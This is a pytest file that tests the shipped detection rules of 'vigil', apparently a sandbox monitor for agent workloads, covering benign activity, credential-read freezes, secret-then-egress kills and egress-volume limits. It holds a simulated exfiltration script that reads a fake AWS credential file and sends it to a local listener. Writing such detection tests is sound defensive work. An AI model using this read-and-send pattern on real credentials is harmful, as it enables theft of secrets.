"""The shipped rules (rules/*.yaml, built into vigil) end to end:
ordinary agent work raises nothing; credential reads add up to a freeze,
exfiltrating after reading a secret kills, and a windowed egress volume
rule acts for real. test_shipped_rules.py has a firing and a benign case
for every shipped rule.

The credentials are fakes the tests write as /root/.aws/vigiltest-*
(root's home is what '~' means for a process running as root) and
remove; no real credential is ever opened. Network traffic goes to
listeners the tests open on 127.0.0.1.
"""

import itertools
import math
import os
import shutil
import signal

import pytest
import yaml

from conftest import REPO, make_sandbox, run_in_cgroup, run_in_cgroup_ok
from policy_support import (  # noqa: F401 (fixtures)
    PY, actions, alerts, assert_stalled, by_seq, cgroup_events, counter_argv,
    ctl_ok, is_action, sink, status_of, wait_frozen, write_rules, workspace)

BUILTIN = ["--rules", "builtin"]
_n = itertools.count()


@pytest.fixture
def fake_cloud_credentials():
    """Factory: make(n) -> n fake credential files in root's ~/.aws,
    removed afterwards (and the directory too, when the test made it).
    Only these files are opened, never one the machine had."""
    aws = "/root/.aws"
    made_dir = not os.path.isdir(aws)
    if made_dir:
        os.mkdir(aws, 0o700)
    made = []

    def make(n):
        for _ in range(n):
            path = f"{aws}/vigiltest-{os.getpid()}-{next(_n)}"
            fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
            made.append(path)
            with os.fdopen(fd, "w") as f:
                f.write("[default]\naws_access_key_id = AKIAFAKEVIGILTEST\n")
        return made[-n:]

    yield make
    for path in made:
        os.unlink(path)
    if made_dir:
        try:
            os.rmdir(aws)
        except OSError:
            pass    # something else put files there meanwhile: leave it


def shipped():
    """The shipped rules by id, and the default profile's thresholds, as
    rules/*.yaml have them (the binary embeds every one of those files)."""
    items = [i for f in sorted((REPO / "rules").glob("*.yaml"))
             for i in yaml.safe_load(f.read_text()) or []]
    rules = {i["rule"]: i for i in items if "rule" in i}
    profile = [i for i in items if i.get("profile") == "default"]
    assert len(profile) == 1, profile
    return rules, profile[0]["thresholds"]


def crossings(scores, thresholds):
    """The actions a run of matches with these scores asks for, in a
    sandbox starting at risk 0 (decay ignored): [(match index, level)]."""
    order = ["alert", "freeze", "kill"]
    risk, level, out = 0, -1, []
    for i, s in enumerate(scores):
        risk += s
        reached = max((n for n, lv in enumerate(order)
                       if risk >= thresholds[lv]), default=-1)
        if reached > level:
            level = reached
            out.append((i, order[level]))
    return out




BENIGN = r"""
set -e
cd "$1"
mkdir -p src build data
cat > src/hello.c <<'EOF'
#include <stdio.h>
#include <stdlib.h>
int main(int argc, char **argv)
{
	FILE *f = fopen(argc > 1 ? argv[1] : "out.txt", "w");
	if (!f)
		return 1;
	for (int i = 0; i < 100; i++)
		fprintf(f, "line %d\n", i);
	return fclose(f) ? 1 : 0;
}
EOF
cc -O2 -Wall -o build/hello src/hello.c
./build/hello data/out.txt
test "$(wc -l < data/out.txt)" = 100
cat > src/stats.py <<'EOF'
import json, os, sys
lines = open(sys.argv[1]).read().splitlines()
json.dump({"n": len(lines), "files": sorted(os.listdir("."))},
          open("data/stats.json", "w"))
EOF
cat > src/check.py <<'EOF'
import json
d = json.load(open("data/stats.json"))
assert d["n"] == 100, d
EOF
cat > src/test_stats.py <<'EOF'
import subprocess
import unittest


class Listing(unittest.TestCase):
    def test_ls(self):
        r = subprocess.run(["ls", "-la", "."], capture_output=True)
        self.assertEqual(r.returncode, 0)
EOF
/usr/bin/python3 src/stats.py data/out.txt
/usr/bin/python3 src/check.py
(cd src && /usr/bin/python3 -m unittest -q test_stats)
git init -q repo
cp src/*.py repo/
git -C repo -c user.name=agent -c user.email=agent@example.com add .
git -C repo -c user.name=agent -c user.email=agent@example.com \
    commit -q -m initial
git -C repo log --oneline > data/log.txt
ls -laR . > data/listing.txt
find . -name '*.c' | xargs grep -c printf > /dev/null
sed -i 's/line/row/' data/out.txt
sort -r data/out.txt | head -3 > data/top.txt
cp data/top.txt data/top-copy.txt
rm data/top-copy.txt
tar -cf data/src.tar src
date > /dev/null; uname -a > /dev/null; id > /dev/null
echo benign-done
"""


def test_benign_workload_raises_nothing(tmp_path, sandbox_root, start_vigil,
                                        workspace):
    """Compile and run C, run Python scripts, read and write the
    workspace, list directories: no alert and no action under the
    shipped rules and profile."""
    sb = make_sandbox(sandbox_root, "benign")
    v = start_vigil(sandbox_root, extra_args=BUILTIN)
    _, out = run_in_cgroup_ok(sb, ["/bin/sh", "-c", BENIGN, "sh", workspace],
                              timeout=180)
    assert out.strip().endswith("benign-done"), out
    records = v.stop()

    hello = os.path.join(workspace, "build", "hello")
    execs = {r["exec"]["file"] for r in records if r["type"] == "exec"
             and r["exec"]["ret"] == 0}
    assert {hello, os.path.realpath(PY)} <= execs, sorted(execs)
    assert any(e.endswith("/cc1") for e in execs), sorted(execs)
    assert any(r["type"] == "open" and r["open"]["path"] == os.path.join(
        workspace, "data", "stats.json") for r in records)
    assert alerts(records) == [] and actions(records) == [], \
        [r for r in records if r["type"] in ("alert", "action")]


def test_credential_reads_freeze(vigil_bin, sandbox_root, start_vigil,
                                tmp_path, fake_cloud_credentials):
    """Each cloud credential file opened is a cloud-credentials-read
    alert; as many reads as it takes for their scores to reach the
    default profile's freeze threshold freeze the sandbox, with the
    reader in the evidence; the operator then kills it."""
    rules, thresholds = shipped()
    rule = rules["cloud-credentials-read"]
    score = rule["score"]
    n = math.ceil(thresholds["freeze"] / score)
    if not (1 < n <= 8 and n * score < thresholds["kill"]
            and "action" not in rule):
        pytest.fail(f"cloud-credentials-read scores {score}: reads no "
                    f"longer reach freeze ({thresholds}) one by one before "
                    "kill; rethink this test", pytrace=False)
    creds = fake_cloud_credentials(n)
    sb = make_sandbox(sandbox_root, "creds")
    v = start_vigil(sandbox_root, extra_args=BUILTIN)
    counter = tmp_path / "counter"
    child = run_in_cgroup(sb, counter_argv(counter, *creds))

    f = v.wait_for(is_action("freeze"), what="freeze action")
    wait_frozen(sb)
    assert_stalled(counter, 0.5)
    records = v.records()
    got = alerts(records)
    assert [a["alert"]["rule"] for a in got] == ["cloud-credentials-read"] * n
    for i, (a, cred) in enumerate(zip(got, creds), 1):
        o = by_seq(records, a["alert"]["trigger"]["seq"])
        assert o["type"] == "open" and o["open"]["path"] == cred, o
        assert o["proc"]["pid"] == child.pid
        x = a["alert"]
        assert (x["severity"], x["score"], x["profile"]) == \
            (rule["severity"], score, "default"), x
        assert math.isclose(x["risk"], i * score, rel_tol=1e-3), x
        assert x["tags"] == rule["tags"], x

    acts = actions(records)
    want = crossings([score] * n, thresholds)
    assert [x["action"]["action"] for x in acts] == [lv for _, lv in want]
    assert acts[-1] == f
    for x, (i, level) in zip(acts, want):
        y = x["action"]
        assert (y["reason"], y["rule"], y["threshold"], y["outcome"]) == \
            ("threshold", None, thresholds[level], "done"), y
        assert y["trigger_seq"] == got[i]["alert"]["trigger"]["seq"], y
    assert child.pid in [p["pid"] for p in
                         f["action"]["evidence"]["processes"]]

    st = status_of(vigil_bin, v.control, "creds")
    assert st["taints"] == ["secrets-read"] and st["state"] == "frozen", st

    ctl_ok(vigil_bin, v.control, "kill", "creds")
    k = v.wait_for(is_action("kill"), what="kill action")["action"]
    assert (k["reason"], k["outcome"]) == ("operator", "done"), k
    assert cgroup_events(sb)["populated"] == 0
    assert child.wait(timeout=30) == -signal.SIGKILL
    assert len(alerts(v.records())) == n


NO_EGRESS = """
- profile: no-egress
  description: no destination allowed, loopback included; the kernel
    refuses none (monitor), so the rules judge every connection
  egress: monitor
  thresholds: {alert: 20, freeze: 500, kill: 1000}
"""

EXFIL = r"""
import socket, sys, time
key, port = sys.argv[1], int(sys.argv[2])
loot = open(key, "rb").read() if key != "-" else b"nothing"
s = socket.create_connection(("127.0.0.1", port))
s.sendall(loot)
time.sleep(60)
"""


def test_secret_then_egress_kills(sandbox_root, start_vigil, tmp_path, sink,
                                  fake_cloud_credentials):
    """A profile that allows no destination (loopback included): the
    same connection only alerts (an unknown destination) from a sandbox
    that read no secret, and kills one that read a cloud credential
    first."""
    rules = write_rules(tmp_path / "no-egress.yaml", NO_EGRESS)
    v = start_vigil(sandbox_root, extra_args=BUILTIN + ["--rules", rules])

    clean = make_sandbox(sandbox_root, "clean", profile="no-egress")
    p = run_in_cgroup(clean, [PY, "-c", EXFIL.replace("time.sleep(60)", ""),
                              "-", str(sink.port)])
    assert p.wait(timeout=60) == 0
    c = v.wait_for(lambda r: r["type"] == "connect"
                   and r["sandbox"]["id"] == "clean"
                   and r["connect"]["port"] == sink.port,
                   what="the clean sandbox's connect")

    thief = make_sandbox(sandbox_root, "thief", profile="no-egress")
    cred, = fake_cloud_credentials(1)
    child = run_in_cgroup(thief, [PY, "-c", EXFIL, cred,
                                  str(sink.port)])
    k = v.wait_for(is_action("kill"), timeout=30, what="kill action")
    assert child.wait(timeout=30) == -signal.SIGKILL
    assert cgroup_events(thief)["populated"] == 0

    records = v.records()
    y = k["action"]
    assert (y["reason"], y["rule"], y["outcome"], y["error"]) == \
        ("rule", "secret-then-egress", "done", None), y
    assert y["profile"] == "no-egress" and k["sandbox"]["id"] == "thief"
    assert y["latency_ms"] > 0
    trig = by_seq(records, y["trigger_seq"])
    assert trig["type"] in ("connect", "flow"), trig
    assert trig["sandbox"]["id"] == "thief"
    assert trig[trig["type"]]["port"] == sink.port, trig

    mine = [(r["sandbox"]["id"], r["alert"]["rule"]) for r in alerts(records)]
    assert ("thief", "cloud-credentials-read") in mine, mine
    assert ("thief", "secret-then-egress") in mine, mine
    assert c["seq"] < k["seq"]
    # The clean sandbox: an unknown destination, an alert and no more.
    assert {rule for sid, rule in mine if sid == "clean"} == \
        {"unknown-destination-connect"}, mine
    assert [r["action"]["action"] for r in actions(records)
            if r["sandbox"]["id"] == "clean"] in ([], ["alert"])


VOLUME = """
- profile: default
  description: the kernel refuses nothing; the window judges the volume
  egress: monitor

- rule: egress-volume-test
  description: More than 1 MiB to the test's listener within a minute.
  event: flow
  when: flow.port == {port}
  window: {{sum: flow.bytes, over: 60s, above: 1MiB}}
  score: 100
  severity: critical
  action: kill
"""

STREAM = r"""
import socket, sys, time
port, total = int(sys.argv[1]), int(sys.argv[2])
s = socket.create_connection(("127.0.0.1", port))
chunk = b"x" * 65536
sent = 0
while sent < total:
    s.sendall(chunk)
    sent += len(chunk)
time.sleep(float(sys.argv[3]))
"""


def test_egress_volume_window_kills(sandbox_root, start_vigil, tmp_path,
                                    sink):
    """A windowed sum over flow bytes: 512 KiB passes, 5 MiB is killed."""
    rules = write_rules(tmp_path / "volume.yaml",
                        VOLUME.format(port=sink.port))
    v = start_vigil(sandbox_root, flow_interval=100,
                    extra_args=["--rules", rules])

    small = make_sandbox(sandbox_root, "small")
    p = run_in_cgroup(small, [PY, "-c", STREAM, str(sink.port),
                              str(512 << 10), "0.5"])
    assert p.wait(timeout=60) == 0
    v.wait_for(lambda r: r["type"] == "flow" and r["sandbox"]["id"] ==
               "small" and r["flow"]["port"] == sink.port,
               what="the small sandbox's flow")

    big = make_sandbox(sandbox_root, "big")
    child = run_in_cgroup(big, [PY, "-c", STREAM, str(sink.port),
                                str(5 << 20), "60"])
    k = v.wait_for(is_action("kill"), timeout=30, what="kill action")
    assert child.wait(timeout=30) == -signal.SIGKILL
    assert cgroup_events(big)["populated"] == 0

    records = v.records()
    y = k["action"]
    assert (y["reason"], y["rule"], y["outcome"]) == \
        ("rule", "egress-volume-test", "done"), y
    assert k["sandbox"]["id"] == "big"
    trig = by_seq(records, y["trigger_seq"])
    assert trig["type"] == "flow" and trig["sandbox"]["id"] == "big", trig
    sent = sum(r["flow"]["bytes"] for r in records if r["type"] == "flow"
               and r["sandbox"]["id"] == "big" and r["seq"] <= trig["seq"])
    assert sent > 1 << 20, sent
    got = alerts(records)
    assert [(a["sandbox"]["id"], a["alert"]["rule"]) for a in got] == \
        [("big", "egress-volume-test")], got
    assert got[0]["alert"]["trigger"] == {"seq": trig["seq"], "type": "flow"}
